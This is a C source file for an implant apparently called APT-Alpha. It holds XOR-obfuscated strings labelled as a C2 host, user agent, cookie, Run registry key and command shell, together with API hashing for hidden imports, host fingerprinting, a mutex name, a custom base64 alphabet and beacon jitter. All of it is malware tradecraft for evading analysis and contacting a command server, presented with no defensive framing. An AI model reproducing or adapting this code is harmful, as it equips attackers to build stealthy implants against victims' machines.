/* APT-Alpha: string obfuscation, API hashing, host fingerprint, custom base64.
 *
 * Strings never appear in clear in an Alpha binary: each is XORed with a key byte that evolves with
 * the plaintext (k = k*31 + 61 + i + c), decoded on first use into a private cache. */
#include <stdio.h>
#include <string.h>

#include "alpha.h"

struct enc_str {
    uint8_t key;
    uint8_t len;
    const uint8_t *data;
};

static const struct enc_str alpha_strtab[ASTR_COUNT] = {
    /* ASTR_UA */ {0x5c, 115, (const uint8_t[]){
        0x11, 0xc1, 0xc5, 0xb3, 0x63, 0x12, 0x91, 0x9b, 0x0a, 0x35, 0x89, 0xfe, 0x62, 0x30, 0x73,
        0xb4, 0x44, 0xfe, 0x3b, 0x89, 0x29, 0xc6, 0x4c, 0xaf, 0xf4, 0x51, 0x6b, 0xd0, 0x93, 0xcc,
        0x59, 0x0d, 0x8f, 0x3c, 0xfe, 0x32, 0x92, 0x77, 0x9d, 0x7a, 0x23, 0xe4, 0x03, 0xd6, 0x82,
        0x4b, 0xea, 0x76, 0xa7, 0x32, 0xcb, 0x53, 0xab, 0xc9, 0x4e, 0xbe, 0x8d, 0x1c, 0x81, 0x0e,
        0x56, 0xcb, 0x54, 0xcf, 0x49, 0x19, 0xbb, 0x98, 0x58, 0x45, 0x8c, 0xcc, 0x4d, 0xe2, 0x63,
        0x4f, 0x60, 0x22, 0xa3, 0x87, 0xe7, 0x85, 0xa3, 0xfe, 0x99, 0xa7, 0x10, 0x0c, 0x35, 0xf2,
        0x6a, 0x31, 0xc9, 0xf3, 0x3d, 0x6c, 0x09, 0x88, 0xd7, 0x9b, 0x57, 0x6a, 0xeb, 0x5f, 0xe1,
        0x05, 0x51, 0x3f, 0x54, 0x88, 0xf1, 0x6b, 0x29, 0x87, 0x9b}},
    /* ASTR_MUTEX_FMT */ {0x77, 22, (const uint8_t[]){
        0x30, 0x81, 0x32, 0x93, 0xb0, 0x9d, 0x81, 0x35, 0x10, 0x3b, 0xac, 0x0d, 0xc0, 0x2a, 0x30,
        0x89, 0x4f, 0xa9, 0x52, 0xed, 0x7b, 0xde}},
    /* ASTR_HOST */ {0x92, 22, (const uint8_t[]){
        0xf1, 0x2a, 0x7a, 0x34, 0x01, 0xb2, 0x54, 0x16, 0x7a, 0x0e, 0x8e, 0xb0, 0x00, 0x28, 0xef,
        0x06, 0x6a, 0x16, 0x8e, 0xb3, 0xe4, 0x21}},
    /* ASTR_PATH */ {0xad, 17, (const uint8_t[]){
        0x82, 0x3e, 0x50, 0xe6, 0xd5, 0xc0, 0xf0, 0xdc, 0x94, 0xbc, 0x9e, 0x64, 0xa1, 0x0f, 0xf1,
        0xa8, 0x5d}},
    /* ASTR_COOKIE */ {0xc8, 29, (const uint8_t[]){
        0x8b, 0xd7, 0x9a, 0x32, 0x1b, 0x1d, 0x15, 0x0e, 0xa9, 0x09, 0x9e, 0xb4, 0x5b, 0xb5, 0x26,
        0x6b, 0xe7, 0x64, 0x57, 0x37, 0xed, 0x39, 0xae, 0x76, 0xc2, 0xa0, 0x3f, 0x4e, 0xef}},
    /* ASTR_TEMP */ {0xe3, 21, (const uint8_t[]){
        0xc6, 0x8b, 0xd6, 0x1c, 0x0c, 0x90, 0x0e, 0xe0, 0xb7, 0x01, 0xb7, 0xb4, 0x83, 0x69, 0x93,
        0x0c, 0x30, 0x53, 0xeb, 0x69, 0x49}},
    /* ASTR_RUNKEY */ {0xfe, 45, (const uint8_t[]){
        0xad, 0x3d, 0xfd, 0x1e, 0xfd, 0x0f, 0x87, 0x05, 0x15, 0x35, 0x72, 0x96, 0x24, 0x4a, 0x47,
        0x65, 0x97, 0x96, 0x7c, 0xdc, 0x15, 0xd0, 0xa6, 0x5a, 0x59, 0x2d, 0x77, 0xab, 0xc6, 0x09,
        0xc3, 0x59, 0x6b, 0x12, 0x7a, 0x6c, 0xae, 0x04, 0x57, 0x21, 0x2b, 0x72, 0x06, 0x90, 0xf6}},
    /* ASTR_CMD */ {0x19, 11, (const uint8_t[]){
        0x7a, 0xca, 0x80, 0x11, 0x6a, 0x0f, 0x46, 0xc5, 0x30, 0x56, 0x34}},
    /* ASTR_OK */ {0x34, 15, (const uint8_t[]){
        0x7c, 0x85, 0xb5, 0x82, 0xd1, 0x03, 0xaf, 0x21, 0x45, 0x92, 0xe8, 0xaf, 0x99, 0x9f, 0x82}},
};

static char alpha_cache[ASTR_COUNT][128];
static uint8_t alpha_ready[ASTR_COUNT];

void alpha_xs_decode(char *dst, const uint8_t *src, size_t n, uint8_t key)
{
    uint8_t k = key;
    for (size_t i = 0; i < n; i++) {
        uint8_t c = src[i] ^ k;
        dst[i] = (char)c;
        k = (uint8_t)(k * 0x1f + 0x3d + i + c);
    }
    dst[n] = 0;
}

void alpha_xs_encode(uint8_t *dst, const char *src, size_t n, uint8_t key)
{
    uint8_t k = key;
    for (size_t i = 0; i < n; i++) {
        uint8_t c = (uint8_t)src[i];
        dst[i] = c ^ k;
        k = (uint8_t)(k * 0x1f + 0x3d + i + c);
    }
}

const char *alpha_str(int id)
{
    if (id < 0 || id >= ASTR_COUNT)
        return "";
    if (!alpha_ready[id]) {
        const struct enc_str *e = &alpha_strtab[id];
        alpha_xs_decode(alpha_cache[id], e->data, e->len, e->key);
        alpha_ready[id] = 1;
    }
    return alpha_cache[id];
}

/* resolve-by-hash: ROR 11 with a per-character multiply, case-insensitive */
uint32_t alpha_hash_api(const char *name)
{
    uint32_t h = 0x7a1f3c5du;
    for (const unsigned char *p = (const unsigned char *)name; *p; p++) {
        unsigned c = *p;
        if (c >= 'a' && c <= 'z')
            c -= 32;
        h = (h >> 11) | (h << 21);
        h += c * 0x9e37u;
        h ^= h >> 15;
    }
    return h ^ 0x0badf00du;
}

uint32_t alpha_host_id(const char *hostname, const char *user)
{
    uint32_t a = 0xcbf29ce4u, b = 0x84222325u;
    for (const char *p = hostname; *p; p++) {
        a = (a ^ (uint8_t)*p) * 0x01000193u;
        b = (b + (uint8_t)*p) * 0x2f0b3c57u;
    }
    for (const char *p = user; *p; p++) {
        b = (b ^ (uint8_t)*p) * 0x01000193u;
        a = (a + (uint8_t)*p) * 0x2f0b3c57u;
    }
    return (a ^ (b >> 3) ^ (b << 29)) | 1u;
}

void alpha_mutex_name(char *out, size_t cap, uint32_t host_id)
{
    snprintf(out, cap, alpha_str(ASTR_MUTEX_FMT), host_id ^ 0x1cecafe1u);
}

/* base64 with the Alpha alphabet (digits first, then a rotated upper/lower case), '.' padding */
static const char alpha_b64[] = "0123456789NOPQRSTUVWXYZABCDEFGHIJKLMnopqrstuvwxyzabcdefghijklm+_";

size_t alpha_b64_encode(const uint8_t *in, size_t n, char *out, size_t cap)
{
    size_t need = (n + 2) / 3 * 4 + 1;
    if (cap < need)
        return 0;
    char *o = out;
    size_t i = 0;
    for (; i + 2 < n; i += 3) {
        uint32_t v = ((uint32_t)in[i] << 16) | ((uint32_t)in[i + 1] << 8) | in[i + 2];
        *o++ = alpha_b64[(v >> 18) & 63];
        *o++ = alpha_b64[(v >> 12) & 63];
        *o++ = alpha_b64[(v >> 6) & 63];
        *o++ = alpha_b64[v & 63];
    }
    if (i < n) {
        uint32_t v = (uint32_t)in[i] << 16;
        if (i + 1 < n)
            v |= (uint32_t)in[i + 1] << 8;
        *o++ = alpha_b64[(v >> 18) & 63];
        *o++ = alpha_b64[(v >> 12) & 63];
        *o++ = (i + 1 < n) ? alpha_b64[(v >> 6) & 63] : '.';
        *o++ = '.';
    }
    *o = 0;
    return (size_t)(o - out);
}

static int b64_val(int c)
{
    if (c >= '0' && c <= '9')
        return c - '0';
    if (c >= 'N' && c <= 'Z')
        return 10 + c - 'N';
    if (c >= 'A' && c <= 'M')
        return 23 + c - 'A';
    if (c >= 'n' && c <= 'z')
        return 36 + c - 'n';
    if (c >= 'a' && c <= 'm')
        return 49 + c - 'a';
    if (c == '+')
        return 62;
    if (c == '_')
        return 63;
    return -1;
}

long alpha_b64_decode(const char *in, uint8_t *out, size_t cap)
{
    uint32_t acc = 0;
    int bits = 0;
    size_t n = 0;
    for (const char *p = in; *p && *p != '.'; p++) {
        int v = b64_val((unsigned char)*p);
        if (v < 0)
            return -1;
        acc = (acc << 6) | (uint32_t)v;
        bits += 6;
        if (bits >= 8) {
            bits -= 8;
            if (n >= cap)
                return -2;
            out[n++] = (uint8_t)(acc >> bits);
        }
    }
    return (long)n;
}

/* sleep time with +-25% jitter; a xorshift state shared by the caller's beacon loop */
unsigned alpha_jitter(unsigned base_ms, uint32_t *state)
{
    uint32_t x = *state ? *state : 0x2545f491u;
    x ^= x << 13;
    x ^= x >> 17;
    x ^= x << 5;
    *state = x;
    unsigned span = base_ms / 2 + 1;
    return base_ms - base_ms / 4 + x % span;
}
